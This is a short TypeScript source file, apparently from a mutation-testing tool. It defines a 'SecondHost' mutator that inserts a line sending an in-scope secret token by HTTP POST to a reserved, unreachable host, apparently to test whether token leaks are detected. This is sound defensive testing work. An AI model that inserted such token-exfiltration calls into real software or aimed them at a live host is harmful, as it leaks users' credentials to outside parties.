import { insertion, isAdded, textAt } from "../insertions.ts";
import type { Mutator } from "../mutator.ts";
import { secretsInScope } from "../secrets-in-scope.ts";

/** Somebody else than GitHub is told the token. The host is one that nobody can have (RFC 6761): a mutant may call nobody either. */
export const secondHost: Mutator = {
  name: "SecondHost",
  *mutate(place) {
    const { node, text } = place;
    if (node.kind !== "statement" || node.verb !== "LET" || !/http::get/i.test(textAt(text, node))) return;
    const secret = secretsInScope(place).at(-1);
    if (secret === undefined) return;
    const call = `http::post('https://mutant.invalid/', { token: ${secret} });`;
    yield { about: isAdded(call), edits: [insertion(node.from, `${call} `)] };
  },
};
